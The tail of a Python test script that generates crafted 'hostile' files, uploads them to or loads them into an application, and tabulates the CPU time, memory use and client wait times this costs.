    done = threading.Event()

    def other_client() -> None:
        while not done.is_set():
            started = time.monotonic()
            call("GET", "/api/v1/projects?limit=5")
            slowest[0] = max(slowest[0], time.monotonic() - started)
            time.sleep(0.2)

    boundary = "hostile20boundary"
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{path.name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n").encode() + path.read_bytes() \
        + f"\r\n--{boundary}--\r\n".encode()
    watcher = threading.Thread(target=other_client)
    cpu = _server_cpu(pid)
    watcher.start()
    status, answer = call("POST", "/api/v1/uploads", body, f"multipart/form-data; boundary={boundary}")
    outcome = f"{status} "
    if status == 200:
        problems = [p for p in answer.get("problems", []) if p.get("severity") == "error"]
        outcome += (problems[0]["message"] if problems else f"{len(answer.get('projects', []))} projects")
        importing, imported = call("POST", f"/api/v1/uploads/{answer['upload_id']}/import", b"{}",
                                   "application/json")
        outcome += f"; import {importing}"
        if importing != 200:
            error = imported.get("error") or {}
            outcome += f" {str(error.get('message') or imported)[:40]}"
            call("DELETE", f"/api/v1/uploads/{answer['upload_id']}")  # a user keeps at most 20 unconfirmed
    else:
        outcome += str(answer.get("message") or answer.get("detail") or answer)[:100]
    done.set()
    watcher.join()
    spent = _server_cpu(pid) - cpu
    return spent, _server_memory(pid, "VmRSS"), f"{outcome[:110]} (others waited ≤ {slowest[0]:.2f} s)"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", help="cases whose name holds this text")
    parser.add_argument("--via", choices=("load", "check", "web"), default="load")
    parser.add_argument("--url", help="--via web: the server (http://127.0.0.1:6109)")
    parser.add_argument("--token", help="--via web: an API token of a unit editor or admin")
    parser.add_argument("--pid", type=int, help="--via web: the server's process id (its CPU and memory are read)")
    parser.add_argument("--dir", default="/tmp/perfbudget-hostile-files")
    parser.add_argument("--keep", action="store_true", help="keep the files built (else each is deleted once read)")
    args = parser.parse_args()
    folder = Path(args.dir)
    folder.mkdir(parents=True, exist_ok=True)
    extra = {"load": "extra MB", "check": "peak MB", "web": "server RSS MB"}[args.via]
    print(f"| file | size KB | CPU s | {extra} | result |")
    print("|---|---|---|---|---|")
    for name, (file_name, make) in CASES.items():
        if args.only and args.only not in name:
            continue
        path = folder / file_name
        path.write_bytes(make())
        size = path.stat().st_size // 1024
        if args.via == "load":
            cpu, memory, outcome = _measure_load(path, file_name)
        elif args.via == "check":
            cpu, memory, outcome = _check(path)
        else:
            cpu, memory, outcome = _web(path, args.url, args.token, args.pid)
        outcome = outcome.replace("|", "¦").replace("\n", " ")
        print(f"| {name} | {size:,} | {cpu:.2f} | {memory:.0f} | {outcome[:140]} |", flush=True)
        if not args.keep:
            path.unlink()


if __name__ == "__main__":
    main()
